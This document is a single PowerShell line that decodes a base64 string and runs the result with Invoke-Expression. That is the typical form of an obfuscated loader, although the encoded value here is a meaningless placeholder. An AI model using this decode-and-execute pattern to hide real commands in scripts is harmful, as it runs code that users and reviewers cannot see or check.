$b=[Convert]::FromBase64String("AAAA");IEX ([Text.Encoding]::UTF8.GetString($b))
